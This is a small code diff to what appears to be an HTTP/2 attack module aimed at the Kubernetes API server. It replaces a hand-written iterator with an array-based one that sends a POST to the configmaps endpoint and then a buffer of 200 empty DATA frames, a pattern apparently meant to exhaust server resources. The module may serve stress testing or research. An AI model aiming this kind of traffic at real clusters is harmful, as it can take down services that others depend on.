@@ -24,13 +24,7 @@ export const attack: Attack = {
       const stream = connection.stream()
       const post = request(head(target, 'POST', '/api/v1/namespaces/default/configmaps'), 0)
       const piece = Buffer.concat(new Array<Buffer>(200).fill(h2.data(stream, '')))
-      let begun = false
-      return {
-        next() {
-          if (begun) return piece
-          begun = true
-          return post(stream)
-        },
-      }
+      const pieces = [post(stream)]
+      return { next: () => pieces.shift() ?? piece }
     }),
 }
